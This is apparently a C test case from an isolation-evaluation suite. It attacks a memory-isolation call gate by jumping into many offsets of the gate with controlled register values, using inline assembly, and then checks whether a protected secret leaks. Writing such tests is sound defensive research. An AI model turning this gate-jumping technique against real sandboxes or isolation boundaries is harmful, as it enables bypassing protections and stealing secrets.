/* Tries: to jump into the gate at many places, with its own addresses in all registers
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); Garmr (Voulimeneas et al.)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN

/* Jumps there with these registers; what comes back comes back here, or not at all. */
static void LOCAL(jump)(uint64_t code, uint64_t rights, uint64_t others)
{
    register uint64_t r8 __asm__("r8") = others;
    __asm__ volatile(
        "mov %0, %%r11\n\tmov %1, %%rax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%%r11"
        :
        : "r"(code), "r"(rights), "S"(others), "D"(others), "r"(r8)
        : "rax", "rcx", "rdx", "r11", "memory");
}

FOREIGN(run)
{
    uint64_t code = at->gate_start + 13ull * at->step;
    if (at->gate_start && code < at->gate_end && *POINTER(const uint8_t, code) != 0xcb &&
        *POINTER(const uint8_t, code) != 0xca && *POINTER(const uint8_t, code) != 0xcf)
        LOCAL(jump)(code, 0, at->canary_page + 2048);
    take(at, at->secret_global);
    return 0;
}

#endif

#ifdef ATTACK_HOST
/* Each call one jump, each after a reset; where nothing isolates there is nothing to jump to. */
HOST(run)
{
    enum og_error error = OG_OK, first = OG_OK;
    struct og_fault fault = {0};
    for (uint32_t step = 0; step < (host->places[PLACE_gate_start] ? 60 : 1); step++) {
        error = host_prepare(host);
        if (!error)
            error = host_call(host, step);
        if (error && !first) {
            first = error;
            fault = host->fault;
        }
        if (error && instance_reset(&host->library.instance, &host->fault))
            return error;
    }
    host->fault = fault;
    return first;
}
#endif
